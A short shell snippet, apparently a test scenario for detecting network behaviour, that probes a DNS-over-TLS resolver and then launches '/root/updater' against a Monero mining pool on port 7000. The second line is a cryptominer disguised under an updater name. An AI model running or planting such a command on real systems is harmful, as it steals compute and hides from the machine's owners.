# A program resolves the name of a known pool and stays connected to it; before, it asked a resolver over TLS for names.
timeout 3 openssl s_client -connect 198.51.100.53:853 </dev/null >/dev/null 2>&1
/root/updater idle xmr.pool.supportxmr.com 7000 3
